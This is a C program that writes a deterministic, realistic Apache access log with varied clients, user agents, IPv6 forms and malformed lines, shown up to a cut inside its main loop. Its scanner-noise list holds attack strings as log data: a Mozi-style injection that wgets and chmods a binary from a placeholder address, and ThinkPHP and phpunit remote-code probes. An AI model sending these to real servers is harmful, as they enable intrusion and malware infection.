/* genlog.c - write a deterministic, realistic Apache "combined" access log.
 *
 *   genlog [-n LINES] [-s SEED] [-c DISTINCT_CLIENTS]
 *
 * Defaults: 1000000 lines, seed 1, 50000 distinct clients.  The output is a
 * pure function of the three numbers: the program has its own PRNG
 * (splitmix64) and uses integer arithmetic only, so the same arguments give
 * the same bytes on every machine, libc and compiler.
 *
 * What the log looks like (rates are per line unless said otherwise):
 *   - clients drawn from a Zipf-like distribution (s = 1: the top client makes
 *     a few per cent of the traffic, a long tail is seen a few times each),
 *     mixed with short "sessions" where one client fetches several resources
 *     in a row; about 10% of the clients are IPv6, written in mixed forms
 *     (compressed, uncompressed, zero-padded, upper case, IPv4-mapped), under
 *     2001:db8::/32 and other global prefixes;
 *   - timestamps "[dd/Mon/yyyy:HH:MM:SS +0100]" advancing about 1 s per 4
 *     lines, a few slightly out of order as in real logs;
 *   - methods, paths and query strings of a web site with a blog, a shop, an
 *     API, static assets and the usual scanner noise; statuses mostly 200,
 *     then 304, 404, 301/302, some 500; byte counts, some "-";
 *   - referers mostly "-" or site URLs, a few with IP literals;
 *   - real-looking user agents with version strings (per client);
 *   - rare special lines: ~0.01% very long lines (KBs of query string),
 *     ~0.01% malformed lines (junk, truncated lines, error-log lines),
 *     ~0.05% with a trailing nginx "$http_x_forwarded_for" quoted field,
 *     ~0.1% Apache "-" 408 lines and a few escaped TLS handshakes (400).
 * The average line is about 235 bytes.
 *
 * Plain C11 + libc: no GLib, no libm.
 */
#define _POSIX_C_SOURCE 200809L

#include <errno.h>
#include <inttypes.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/* ---------------------------------------------------------------- PRNG */

static uint64_t rng_state;

static uint64_t
splitmix64 (uint64_t *s)
{
  uint64_t z = (*s += UINT64_C (0x9E3779B97F4A7C15));

  z = (z ^ (z >> 30)) * UINT64_C (0xBF58476D1CE4E5B9);
  z = (z ^ (z >> 27)) * UINT64_C (0x94D049BB133111EB);
  return z ^ (z >> 31);
}

static uint64_t
rnd (void)
{
  return splitmix64 (&rng_state);
}

/* uniform in [0, n); n > 0.  The modulo bias is below 2^-40 for our n. */
static uint32_t
below (uint32_t n)
{
  return (uint32_t) ((rnd () >> 11) % n);
}

/* true with probability num / den */
static int
chance (uint32_t num, uint32_t den)
{
  return below (den) < num;
}

static uint32_t
range (uint32_t lo, uint32_t hi) /* inclusive */
{
  return lo + below (hi - lo + 1);
}

/* a stateless hash, for per-client properties */
static uint64_t
hash2 (uint64_t a, uint64_t b)
{
  uint64_t s = a * UINT64_C (0xD1B54A32D192ED03) ^ b;

  splitmix64 (&s);
  return splitmix64 (&s);
}

#define PICK(arr) ((arr)[below ((uint32_t) (sizeof (arr) / sizeof (arr)[0]))])
#define COUNT(arr) ((uint32_t) (sizeof (arr) / sizeof (arr)[0]))

/* -------------------------------------------------------------- output */

static char *out_buf;
static size_t out_len;
#define OUT_CAP ((size_t) 1 << 20)

static void
out_flush (void)
{
  if (out_len && fwrite (out_buf, 1, out_len, stdout) != out_len)
    {
      fprintf (stderr, "genlog: write error: %s\n", strerror (errno));
      exit (1);
    }
  out_len = 0;
}

static void
out_mem (const char *p, size_t n)
{
  if (out_len + n > OUT_CAP)
    out_flush ();
  if (n > OUT_CAP)
    {
      if (fwrite (p, 1, n, stdout) != n)
        exit (1);
      return;
    }
  memcpy (out_buf + out_len, p, n);
  out_len += n;
}

static void
out_str (const char *s)
{
  out_mem (s, strlen (s));
}

static void
out_ch (char c)
{
  out_mem (&c, 1);
}

static void
out_uint (uint64_t v)
{
  char tmp[24];
  size_t n = 0;

  do
    {
      tmp[sizeof tmp - 1 - n++] = (char) ('0' + v % 10);
      v /= 10;
    }
  while (v);
  out_mem (tmp + sizeof tmp - n, n);
}

static void
out_uint_w (uint64_t v, int width) /* zero-padded */
{
  char tmp[24];
  size_t n = 0;

  while (v || n < (size_t) width)
    {
      tmp[sizeof tmp - 1 - n++] = (char) ('0' + v % 10);
      v /= 10;
    }
  out_mem (tmp + sizeof tmp - n, n);
}

static void
out_hex (uint32_t v, int width, int upper)
{
  static const char lo[] = "0123456789abcdef", up[] = "0123456789ABCDEF";
  const char *digits = upper ? up : lo;
  char tmp[16];
  size_t n = 0;

  while (v || n < (size_t) width || n == 0)
    {
      tmp[sizeof tmp - 1 - n++] = digits[v & 15];
      v >>= 4;
    }
  out_mem (tmp + sizeof tmp - n, n);
}

/* ------------------------------------------------------------ calendar */

static const char *const month_name[12] = {
  "Jan", "Feb", "Mar", "Apr", "May", "Jun",
  "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"
};

/* days since 1970-01-01 -> civil date (Howard Hinnant's algorithm) */
static void
civil_from_days (int64_t z, int *y, int *m, int *d)
{
  int64_t era, yoe, doy, mp;

  z += 719468;
  era = (z >= 0 ? z : z - 146096) / 146097;
  doy = z - era * 146097;                       /* day of era */
  yoe = (doy - doy / 1460 + doy / 36524 - doy / 146096) / 365;
  *y = (int) (yoe + era * 400);
  doy = doy - (365 * yoe + yoe / 4 - yoe / 100);
  mp = (5 * doy + 2) / 153;
  *d = (int) (doy - (153 * mp + 2) / 5 + 1);
  *m = (int) (mp < 10 ? mp + 3 : mp - 9);
  if (*m <= 2)
    (*y)++;
}

/* local time (seconds since the epoch, already shifted to +0100) */
static void
out_time (int64_t t)
{
  int y, m, d;
  int64_t days = t / 86400, sod = t % 86400;

  civil_from_days (days, &y, &m, &d);
  out_ch ('[');
  out_uint_w ((uint64_t) d, 2);
  out_ch ('/');
  out_str (month_name[m - 1]);
  out_ch ('/');
  out_uint_w ((uint64_t) y, 4);
  out_ch (':');
  out_uint_w ((uint64_t) (sod / 3600), 2);
  out_ch (':');
  out_uint_w ((uint64_t) (sod / 60 % 60), 2);
  out_ch (':');
  out_uint_w ((uint64_t) (sod % 60), 2);
  out_str (" +0100]");
}

/* ------------------------------------------------------------- clients */

typedef struct
{
  char addr[48];
  uint8_t is_bot;
  uint8_t user;       /* 0: "-", else an index into user_names + 1 */
} Client;

static Client *clients;
static uint32_t nclients;
static uint64_t *zipf_cdf;    /* cumulative integer weights, Zipf s = 1 */

static const char *const user_names[] = {
  "alice", "bob", "carol", "dave", "j.doe", "mallory", "admin", "webmaster",
  "erin@example.org", "frank"
};

/* IPv6 prefixes: (first group, second group) */
static const uint16_t v6_prefix[][2] = {
  { 0x2001, 0x0db8 }, { 0x2001, 0x0db8 }, { 0x2001, 0x0db8 },
  { 0x2a01, 0x04f8 }, { 0x2a00, 0x1450 }, { 0x2600, 0x1f18 },
  { 0x2001, 0x41d0 }, { 0x2a02, 0x8108 }, { 0x2003, 0x00e8 },
  { 0x2406, 0xda14 }, { 0x2800, 0x03f0 }, { 0x2a03, 0x2880 },
  { 0x2604, 0xa880 }, { 0x2c0f, 0xf7a8 },
};

static size_t
fmt_hex (char *p, uint32_t v, int width, int upper)
{
  static const char lo[] = "0123456789abcdef", up[] = "0123456789ABCDEF";
  char tmp[8];
  size_t n = 0, i;

  while (v || n < (size_t) width || n == 0)
    {
      tmp[n++] = (upper ? up : lo)[v & 15];
      v >>= 4;
    }
  for (i = 0; i < n; i++)
    p[i] = tmp[n - 1 - i];
  return n;
}

/* style: 0 canonical (RFC 5952), 1 no compression, 2 zero-padded,
 * 3 upper case canonical */
static void
format_v6 (char *out, const uint16_t g[8], int style)
{
  int best = -1, best_len = 0, i;
  char *p = out;

  if (style == 0 || style == 3)
    {
      for (i = 0; i < 8;)
        {
          int j = i;

          while (j < 8 && g[j] == 0)
            j++;
          if (j - i > best_len && j - i >= 2)
            {
              best = i;
              best_len = j - i;
            }
          i = j > i ? j : i + 1;
        }
    }
  for (i = 0; i < 8; i++)
    {
      if (i == best)
        {
          *p++ = ':';
          if (i == 0)
            *p++ = ':';
          i += best_len - 1;
          continue;
        }
      p += fmt_hex (p, g[i], style == 2 ? 4 : 1, style == 3);
      if (i < 7)
        *p++ = ':';
    }
  *p = '\0';
}

static void
make_v4 (char *out, size_t size, uint64_t h)
{
  unsigned a, b, c, d;

  if (h % 100 < 4)
    {
      /* documentation ranges */
      static const unsigned doc[3][3] = { { 192, 0, 2 }, { 198, 51, 100 }, { 203, 0, 113 } };
      const unsigned *r = doc[(h >> 8) % 3];

      a = r[0], b = r[1], c = r[2];
    }
  else
    {
      do
        {
          h = hash2 (h, 7);
          a = (unsigned) (h % 223) + 1;
        }
      while (a == 10 || a == 127 || a == 169 || a == 172 || a == 192 || a == 100);
      b = (unsigned) (h >> 16) & 255;
      c = (unsigned) (h >> 24) & 255;
    }
  d = (unsigned) ((h >> 40) % 254) + 1;
  snprintf (out, size, "%hhu.%hhu.%hhu.%hhu", (unsigned char) a, (unsigned char) b,
            (unsigned char) c, (unsigned char) d);
}

static void
make_v6 (char *out, uint64_t h)
{
  uint16_t g[8];
  uint64_t h2 = hash2 (h, 99);
  unsigned form = (unsigned) (h2 % 100);
  unsigned style_pick = (unsigned) ((h2 >> 8) % 100);
  int style;
  const uint16_t *pre = v6_prefix[(h >> 12) % COUNT (v6_prefix)];
  int i;

  if (form < 3)
    {
      /* IPv4-mapped, as a dual-stack socket logs it */
      char v4[16];

      make_v4 (v4, sizeof v4, hash2 (h, 5));
      snprintf (out, 48, "::ffff:%s", v4);
      return;
    }
  g[0] = pre[0];
  g[1] = pre[1];
  for (i = 2; i < 8; i++)
    g[i] = (uint16_t) (hash2 (h, (uint64_t) i) & 0xffff);
  if (form < 35)
    {
      /* a server or router: ::1, ::2, ::a */
      g[4] = g[5] = g[6] = 0;
      g[7] = (uint16_t) (1 + (h2 >> 20) % 16);
      if (form < 15)
        g[3] = 0;
    }
  else if (form < 50)
    {
      /* zero groups in the middle: 2001:db8:85a3::8a2e:370:7334 */
      g[3] = g[4] = 0;
    }
  else if (form < 58)
    {
      /* a single zero group, not compressible by RFC 5952 */
      g[4] = 0;
    }
  /* else: SLAAC / privacy address, all groups random */
  if (g[2] == 0)
    g[2] = 1;
  if (style_pick < 75)
    style = 0;
  else if (style_pick < 90)
    style = 1;
  else if (style_pick < 96)
    style = 2;
  else
    style = 3;
  format_v6 (out, g, style);
}

enum { UA_FIREFOX, UA_CHROME, UA_SAFARI, UA_EDGE, UA_MOBILE_SAFARI,
       UA_ANDROID_CHROME, UA_BOT, UA_TOOL, UA__KINDS };

static char **ua_strings;

static char *
make_ua (uint64_t h, int bot)
{
  char buf[512];
  unsigned kind;
  unsigned v = (unsigned) ((h >> 16) % 1000);

  if (bot)
    kind = (h >> 8) % 4 == 0 ? UA_TOOL : UA_BOT;
  else
    {
      unsigned k = (unsigned) ((h >> 8) % 100);

      kind = k < 38 ? UA_CHROME : k < 55 ? UA_FIREFOX : k < 65 ? UA_SAFARI
        : k < 73 ? UA_EDGE : k < 85 ? UA_MOBILE_SAFARI : k < 97 ? UA_ANDROID_CHROME
        : UA_TOOL;
    }
  switch (kind)
    {
    case UA_FIREFOX:
      {
        static const char *const os[] = {
          "X11; Linux x86_64", "X11; Ubuntu; Linux x86_64", "Windows NT 10.0; Win64; x64",
          "Macintosh; Intel Mac OS X 10.15", "X11; Fedora; Linux x86_64"
        };
        unsigned ver = 115 + v % 19;

        snprintf (buf, sizeof buf,
                  "Mozilla/5.0 (%s; rv:%u.0) Gecko/20100101 Firefox/%u.0",
                  os[(h >> 32) % COUNT (os)], ver, ver);
        break;
      }
    case UA_CHROME:
    case UA_EDGE:
      {
        static const char *const os[] = {
          "Windows NT 10.0; Win64; x64", "Windows NT 10.0; Win64; x64",
          "Macintosh; Intel Mac OS X 10_15_7", "X11; Linux x86_64", "X11; CrOS x86_64 14541.0.0"
        };
        static const unsigned build[] = { 5993, 6045, 6099, 6167, 6261, 6312, 6367, 6422,
                                          6478, 6533, 6613, 6668, 6723, 6778 };
        unsigned i = v % COUNT (build);
        unsigned major = 117 + i;
        unsigned patch = (unsigned) ((h >> 40) % 220);

        if (kind == UA_CHROME)
          snprintf (buf, sizeof buf,
                    "Mozilla/5.0 (%s) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%u.0.%u.%u Safari/537.36",
                    os[(h >> 32) % COUNT (os)], major, build[i], patch);
        else
          snprintf (buf, sizeof buf,
                    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%u.0.0.0 Safari/537.36 Edg/%u.0.%u.%u",
                    major, major, build[i] - 2, patch);
        break;
      }
    case UA_SAFARI:
      snprintf (buf, sizeof buf,
                "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/%u.%u Safari/605.1.15",
                16 + v % 3, (v >> 2) % 6);
      break;
    case UA_MOBILE_SAFARI:
      {
        unsigned major = 16 + v % 3, minor = (v >> 2) % 6;

        snprintf (buf, sizeof buf,
                  "Mozilla/5.0 (%s OS %u_%u like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/%u.%u Mobile/15E148 Safari/604.1",
                  (h >> 32) % 4 ? "iPhone; CPU iPhone" : "iPad; CPU",
                  major, minor, major, minor);
        break;
      }
    case UA_ANDROID_CHROME:
      {
        static const char *const dev[] = { "SM-S911B", "Pixel 7", "Pixel 8 Pro", "SM-A546B",
                                           "M2101K6G", "K" };
        unsigned major = 117 + v % 14;

        snprintf (buf, sizeof buf,
                  "Mozilla/5.0 (Linux; Android %u; %s) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%u.0.%u.%u Mobile Safari/537.36",
                  10 + (unsigned) ((h >> 32) % 5), dev[(h >> 36) % COUNT (dev)], major,
                  5900 + major * 7 % 100 * 9, (unsigned) ((h >> 44) % 200));
        break;
      }
    case UA_BOT:
      {
        static const char *const bots[] = {
          "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
          "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
          "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
          "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
          "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
          "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
          "Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
          "Feedbot/2.1 (+https://bot.example.net/)",
          "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.216 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        };
        snprintf (buf, sizeof buf, "%s", bots[v % COUNT (bots)]);
        break;
      }
    case UA_TOOL:
    default:
      {
        unsigned i = v % 6;
        unsigned a = 1 + (v >> 3) % 9, b = (v >> 5) % 4;

        switch (i)
          {
          case 0: snprintf (buf, sizeof buf, "curl/%u.%u.0", 7 + a % 2, a); break;
          case 1: snprintf (buf, sizeof buf, "Wget/1.21.%u", 1 + b); break;
          case 2: snprintf (buf, sizeof buf, "python-requests/2.%u.%u", 25 + a % 7, b); break;
          case 3: snprintf (buf, sizeof buf, "Go-http-client/%s", b % 2 ? "2.0" : "1.1"); break;
          case 4: snprintf (buf, sizeof buf, "okhttp/4.%u.%u", 9 + b, a); break;
          default: snprintf (buf, sizeof buf, "Apache-HttpClient/5.%u.%u (Java/17.0.9)", b, a); break;
          }
        break;
      }
    }
  return strdup (buf);
}

static void
make_clients (uint64_t seed)
{
  uint32_t i;
  uint64_t total = 0;

  clients = calloc (nclients, sizeof *clients);
  zipf_cdf = malloc (nclients * sizeof *zipf_cdf);
  ua_strings = calloc (nclients, sizeof *ua_strings);
  if (clients == NULL || zipf_cdf == NULL || ua_strings == NULL)
    {
      fprintf (stderr, "genlog: out of memory\n");
      exit (1);
    }
  for (i = 0; i < nclients; i++)
    {
      Client *c = &clients[i];
      uint64_t h = hash2 (seed, i);

      /* the heaviest clients: crawlers and monitors, and a NAT or two */
      c->is_bot = i < 16 ? (i % 3 == 0) : (h >> 50) % 100 < 4;
      if ((h >> 4) % 100 < 10)
        make_v6 (c->addr, h);
      else
        make_v4 (c->addr, sizeof c->addr, h);
      ua_strings[i] = make_ua (hash2 (h, 3), c->is_bot);
      if (ua_strings[i] == NULL)
        exit (1);
      c->user = (h >> 56) % 100 < 2 ? (uint8_t) (1 + (h >> 20) % COUNT (user_names)) : 0;
      total += UINT64_C (0xffffffff) / (i + 1);
      zipf_cdf[i] = total;
    }
}

static uint32_t
pick_client (void)
{
  uint64_t r;
  uint32_t lo = 0, hi = nclients - 1;

  /* 15% uniform so that most of the tail shows up at least once */
  if (chance (15, 100))
    return below (nclients);
  r = rnd () % zipf_cdf[nclients - 1];
  while (lo < hi)
    {
      uint32_t mid = lo + (hi - lo) / 2;

      if (zipf_cdf[mid] > r)
        hi = mid;
      else
        lo = mid + 1;
    }
  return lo;
}

/* ------------------------------------------------------------ requests */

static const char *const words[] = {
  "privacy", "logs", "apache", "nginx", "ipv6", "release", "notes", "howto",
  "install", "debian", "kernel", "shoes", "red", "blue", "winter", "jacket",
  "coffee", "grinder", "review", "best", "cheap", "linux", "backup", "server",
  "security", "update", "guide", "faq", "pricing", "contact", "weather", "berlin",
  "zurich", "paris", "gdpr", "cookie", "banner", "open", "source", "garden",
};

static void
out_slug (unsigned n)
{
  unsigned i;

  for (i = 0; i < n; i++)
    {
      if (i)
        out_ch ('-');
      out_str (PICK (words));
    }
}

static void
out_query_words (unsigned n, char sep)
{
  unsigned i;

  for (i = 0; i < n; i++)
    {
      if (i)
        out_ch (sep);
      out_str (PICK (words));
    }
}

typedef enum { R_PAGE, R_ASSET, R_API, R_MISC, R_SCAN } ReqKind;

/* writes the path and query; returns the kind of resource */
static ReqKind
out_path (const char *method, int is_bot)
{
  uint32_t k = below (100);

  if (strcmp (method, "POST") == 0)
    {
      static const char *const posts[] = {
        "/api/v1/events", "/api/v1/cart", "/login", "/comments", "/api/v1/search",
        "/wp-login.php", "/xmlrpc.php", "/contact"
      };
      out_str (PICK (posts));
      return R_API;
    }
  if (is_bot && k < 30)
    k = 95;             /* crawlers fetch pages, robots.txt and feeds */
  if (k < 32)
    {
      switch (below (8))
        {
        case 0: out_str ("/"); break;
        case 1:
          out_str ("/blog/");
          out_uint (range (2019, 2026));
          out_ch ('/');
          out_uint_w (range (1, 12), 2);
          out_ch ('/');
          out_slug (range (2, 6));
          out_ch ('/');
          break;
        case 2:
          out_str ("/products/");
          out_uint (range (1000, 99999));
          out_ch ('-');
          out_slug (range (1, 3));
          break;
        case 3:
          out_str ("/category/");
          out_str (PICK (words));
          if (chance (1, 2))
            {
              out_str ("?page=");
              out_uint (range (2, 40));
              if (chance (1, 3))
                {
                  out_str ("&sort=");
                  out_str (chance (1, 2) ? "price_asc" : "newest");
                }
            }
          break;
        case 4:
          out_str ("/search?q=");
          out_query_words (range (1, 4), '+');
          if (chance (1, 4))
            out_str ("&lang=de");
          break;
        case 5:
          out_str ("/docs/v");
          out_uint (range (1, 3));
          out_ch ('/');
          out_slug (range (1, 3));
          out_str (".html");
          break;
        case 6:
          out_str ("/");
          out_str (PICK (words));
          out_str ("/");
          break;
        default:
          out_str ("/blog/");
          out_slug (range (2, 5));
          out_str ("?utm_source=newsletter&utm_medium=email&utm_campaign=");
          out_str (PICK (words));
          out_uint (range (2023, 2026));
          break;
        }
      return R_PAGE;
    }
  if (k < 78)
    {
      switch (below (9))
        {
        case 0:
          out_str ("/static/css/main.");
          out_hex ((uint32_t) rnd (), 8, 0);
          out_str (".css");
          break;
        case 1:
        case 2:
          out_str ("/static/js/");
          out_str (chance (1, 2) ? "app." : "vendor.");
          out_hex ((uint32_t) rnd (), 8, 0);
          out_str (".js");
          break;
        case 3:
        case 4:
          out_str ("/images/");
          out_str (PICK (words));
          out_ch ('/');
          out_str ("IMG_");
          out_uint_w (range (1, 9999), 4);
          out_str (chance (1, 3) ? ".webp" : ".jpg");
          break;
        case 5:
          out_str ("/fonts/inter-var.woff2");
          break;
        case 6:
          out_str ("/favicon.ico");
          break;
        case 7:
          out_str ("/wp-content/themes/shop/style.css?ver=6.");
          out_uint (range (1, 5));
          out_ch ('.');
          out_uint (range (0, 3));
          break;
        default:
          out_str ("/static/img/icons/");
          out_str (PICK (words));
          out_str ("-24.svg");
          break;
        }
      return R_ASSET;
    }
  if (k < 90)
    {
      switch (below (4))
        {
        case 0:
          out_str ("/api/v1/items/");
          out_uint (range (1, 250000));
          break;
        case 1:
          out_str ("/api/v1/items?limit=20&offset=");
          out_uint (range (0, 50) * 20);
          break;
        case 2:
          out_str ("/api/v2/users/");
          out_uint (range (1, 90000));
          out_str ("/orders?status=open");
          break;
        default:
          out_str ("/api/v1/search?q=");
          out_query_words (range (1, 3), '+');
          out_str ("&limit=20");
          break;
        }
      return R_API;
    }
  if (k < 96)
    {
      static const char *const misc[] = {
        "/robots.txt", "/sitemap.xml", "/feed.xml", "/.well-known/security.txt",
        "/apple-touch-icon.png", "/ads.txt", "/healthz", "/blog/feed/",
      };
      out_str (PICK (misc));
      if (chance (1, 200))
        {
          /* a Windows version number: looks like an address, is not one */
          out_str ("?client=setup-");
          out_uint (range (2, 9));
          out_ch ('.');
          out_uint (range (0, 9));
          out_ch ('.');
          out_uint (range (0, 30));
          out_ch ('.');
          out_uint (range (100, 9999));
        }
      return R_MISC;
    }
  {
    static const char *const scans[] = {
      "/wp-login.php", "/.env", "/.git/config", "/phpmyadmin/index.php",
      "/cgi-bin/luci/;stok=/locale?form=country", "/?XDEBUG_SESSION_START=phpstorm",
      "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/admin/config.php",
      "/boaform/admin/formLogin", "/actuator/health", "/owa/auth/logon.aspx?url=https%3a%2f%2f1%2fecp%2f",
      "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP",
      "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.44:8080/Mozi.a;chmod+777+Mozi.a",
    };
    out_str (PICK (scans));
    return R_SCAN;
  }
}

static const char *
pick_method (void)
{
  uint32_t k = below (1000);

  return k < 870 ? "GET" : k < 945 ? "POST" : k < 980 ? "HEAD"
    : k < 988 ? "OPTIONS" : k < 994 ? "PUT" : k < 998 ? "DELETE" : "PROPFIND";
}

static int
pick_status (ReqKind kind, const char *method)
{
  uint32_t k = below (1000);

  if (kind == R_SCAN)
    return k < 850 ? 404 : k < 930 ? 403 : k < 980 ? 301 : 200;
  if (strcmp (method, "POST") == 0)
    return k < 700 ? 200 : k < 820 ? 201 : k < 900 ? 302 : k < 960 ? 400 : k < 985 ? 403 : 500;
  if (k < 760)
    return 200;
  if (k < (kind == R_ASSET ? 900u : 860u))
    return 304;
  if (k < 915)
    return 404;
  if (k < 945)
    return 301;
  if (k < 960)
    return 302;
  if (k < 972)
    return 206;
  if (k < 980)
    return 403;
  if (k < 986)
    return 401;
  if (k < 994)
    return 500;
  if (k < 998)
    return 503;
  return 429;
}

static void
out_bytes (int status, ReqKind kind, const char *method)
{
  if (status == 304 || (strcmp (method, "HEAD") == 0 && chance (1, 2)))
    {
      out_ch ('-');
      return;
    }
  if (chance (1, 100))
    {
      out_ch ('-');
      return;
    }
  if (status >= 300 && status != 206)
    {
      /* redirects and error pages */
      if (status < 400 && chance (1, 5))
        out_ch ('0');
      else
        out_uint (range (180, 1400));
      return;
    }
  switch (kind)
    {
    case R_ASSET:
      out_uint (range (300, 180000) * (chance (1, 8) ? range (1, 20) : 1));
      break;
    case R_PAGE:
      out_uint (range (4000, 95000));
      break;
    case R_API:
      out_uint (range (40, 12000));
      break;
    default:
      out_uint (range (60, 2000));
      break;
    }
}

static void
out_referer (ReqKind kind, int is_bot)
{
  uint32_t k = below (10000);

  if (is_bot || k < 3700)
    {
      out_str ("\"-\"");
      return;
    }
  out_ch ('"');
  if (k < 3740)
    {
      /* an IP literal: somebody browsed the server by address */
      if (chance (1, 4))
        out_str ("http://[2001:db8:1f70::999:de8:7648:6e8]:8080/admin/");
      else
        {
          out_str ("http://");
          out_uint (range (1, 223));
          out_ch ('.');
          out_uint (range (0, 255));
          out_ch ('.');
          out_uint (range (0, 255));
          out_ch ('.');
          out_uint (range (1, 254));
          out_str (chance (1, 2) ? "/" : "/index.php?page=1");
        }
    }
  else if (k < 5500 && kind != R_ASSET)
    {
      static const char *const ext[] = {
        "https://www.google.com/", "https://www.bing.com/", "https://duckduckgo.com/",
        "https://www.google.com/url?sa=t&rct=j&q=&esrc=s&source=web&cd=&ved=2ahUKEwjX4Z2k9o6CAxVHhP0HHf1dDkQQFnoECBAQAQ&url=https%3A%2F%2Fwww.example.org%2F&usg=AOvVaw0qJ3ZyX8",
        "https://t.co/aBcD3fGh1J", "https://news.ycombinator.com/item?id=38420271",
        "https://www.reddit.com/r/selfhosted/comments/17x2k9a/log_anonymisation/",
        "android-app://com.google.android.gm/", "https://www.facebook.com/",
      };
      out_str (PICK (ext));
    }
  else
    {
      out_str ("https://www.example.org/");
      switch (below (5))
        {
        case 0: break;
        case 1: out_str ("blog/"); out_slug (range (2, 5)); out_ch ('/'); break;
        case 2: out_str ("category/"); out_str (PICK (words)); break;
        case 3: out_str ("search?q="); out_query_words (range (1, 3), '+'); break;
        default: out_str ("products/"); out_uint (range (1000, 99999)); out_ch ('-');
          out_slug (range (1, 3)); break;
        }
    }
  out_ch ('"');
}

static void
out_xff (void)
{
  out_str (" \"");
  switch (below (4))
    {
    case 0:
      out_ch ('-');
      break;
    case 1:
      out_str ("203.0.113.");
      out_uint (range (1, 254));
      break;
    case 2:
      out_str ("198.51.100.");
      out_uint (range (1, 254));
      out_str (", 10.0.");
      out_uint (range (0, 255));
      out_ch ('.');
      out_uint (range (1, 254));
      break;
    default:
      out_str ("2001:db8:");
      out_hex (range (1, 0xffff), 1, 0);
      out_str ("::");
      out_hex (range (1, 0xffff), 1, 0);
      out_str (", 192.0.2.");
      out_uint (range (1, 254));
      break;
    }
  out_ch ('"');
}

/* ------------------------------------------------------- special lines */

static void
out_long_line (const Client *c, const char *ua, int64_t t)
{
  unsigned n = range (300, 900), i;

  out_str (c->addr);
  out_str (" - - ");
  out_time (t);
  out_str (" \"GET /search?q=");
  for (i = 0; i < n; i++)
    {
      if (i)
        out_ch ('+');
      out_str (PICK (words));
    }
  out_str ("&filters=");
  n = range (100, 600);
  for (i = 0; i < n; i++)
    out_hex ((uint32_t) rnd (), 8, 0);
  out_str (" HTTP/1.1\" 414 ");
  out_uint (range (200, 400));
  out_str (" \"-\" \"");
  out_str (ua);
  out_str ("\"\n");
}

static void
out_malformed (const Client *c, int64_t t)
{
  unsigned i, n;

  switch (below (5))
    {
    case 0:
      /* printable junk */
      n = range (20, 160);
      for (i = 0; i < n; i++)
        out_ch ((char) range (33, 126));
      break;
    case 1:
      /* a line cut short by a crash or log rotation */
      out_str (c->addr);
      out_str (" - - ");
      out_time (t);
      out_str (" \"GET /blog/");
      out_slug (range (1, 3));
      out_str (" HTTP/1.1\" 200 51");
      break;
    case 2:
      /* an error-log line in the access log */
      out_str ("[Tue Nov 26 03:12:44.123456 2024] [core:error] [pid 4242:tid 139] [client ");
      out_str (c->addr);
      out_str (":51234] AH00126: Invalid URI in request GET /%zz HTTP/1.1");
      break;
    case 3:
      /* HTML pasted into the log */
      out_str ("<html><head><title>502 Bad Gateway</title></head><body>");
      break;
    default:
      /* two lines run together, the first without its newline */
      out_str (c->addr);
      out_str (" - - ");
      out_time (t);
      out_str (" \"GET / HTTP/1.1\" 200 1234 \"-\" \"curl/8.5.0");
      out_str (c->addr);
      out_str (" - - ");
      out_time (t);
      out_str (" \"GET /favicon.ico HTTP/1.1\" 404 196 \"-\" \"curl/8.5.0\"");
      break;
    }
  out_ch ('\n');
}

/* ---------------------------------------------------------------- main */

static void
usage (FILE *f)
{
  fprintf (f, "usage: genlog [-n LINES] [-s SEED] [-c DISTINCT_CLIENTS]\n"
              "Writes a deterministic Apache combined access log to stdout.\n"
              "Defaults: -n 1000000 -s 1 -c 50000.\n");
}

static int
parse_u64 (const char *s, uint64_t *v)
{
  char *end;
  unsigned long long x;

  if (s == NULL || *s == '\0' || *s == '-')
    return 0;
  errno = 0;
  x = strtoull (s, &end, 10);
  if (errno || *end)
    return 0;
  *v = x;
  return 1;
}

int
main (int argc, char **argv)
{
  uint64_t lines = 1000000, seed = 1, nc = 50000, n;
  int64_t t;
  uint32_t session[8] = { 0 };
  int i;

  for (i = 1; i < argc; i += 2)
    {
      uint64_t *dst = NULL;

      if (strcmp (argv[i], "-h") == 0 || strcmp (argv[i], "--help") == 0)
        {
          usage (stdout);
          return 0;
        }
      if (strcmp (argv[i], "-n") == 0)
        dst = &lines;
      else if (strcmp (argv[i], "-s") == 0)
        dst = &seed;
      else if (strcmp (argv[i], "-c") == 0)
        dst = &nc;
      if (dst == NULL || i + 1 >= argc || !parse_u64 (argv[i + 1], dst))
        {
          usage (stderr);
          return 2;
        }
    }
  if (nc == 0 || nc > 50000000)
    {
      fprintf (stderr, "genlog: -c must be between 1 and 50000000\n");
      return 2;
    }
  nclients = (uint32_t) nc;
  out_buf = malloc (OUT_CAP);
  if (out_buf == NULL)
    return 1;

  rng_state = hash2 (seed, 0x6c6f676e796dULL);
  make_clients (seed);
  for (i = 0; i < 8; i++)
    session[i] = pick_client ();

  /* 2026-11-25 00:00:00 +0100, as local time */
  t = (int64_t) 20782 * 86400;

  for (n = 0; n < lines; n++)
    {
      uint32_t ci;
      const Client *c;
      const char *ua;
      const char *method;
      ReqKind kind;
      int status;
      int64_t lt = t;
      uint32_t k;

      if (chance (1, 4))
        t++;
